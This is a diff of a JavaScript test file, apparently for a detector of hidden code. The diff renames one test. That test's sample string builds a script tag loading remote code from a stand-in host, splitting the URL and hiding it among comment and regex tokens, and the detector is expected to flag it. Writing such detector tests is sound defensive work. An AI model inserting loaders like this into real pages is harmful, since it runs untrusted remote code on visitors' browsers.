@@ -42,7 +42,7 @@ describe('words in comments', () => {
     expect(verdict(`${many}\n${code}\n${many}`)).toBe('benign')
   })
 
-  it('are told from texts and patterns', () => {
+  it('are distinguished from strings and patterns', () => {
     const hides = `var a = /[/*]/; var b = '/*'; var s = document.createElement('script'); s.src = 'https://' + 'hidden-of' + '-words.com/x.js'; document.head.append(s); var c = '*/' // hidden-of-words.com`
     expect(verdict(hides)).toBe('suspicious')
   })
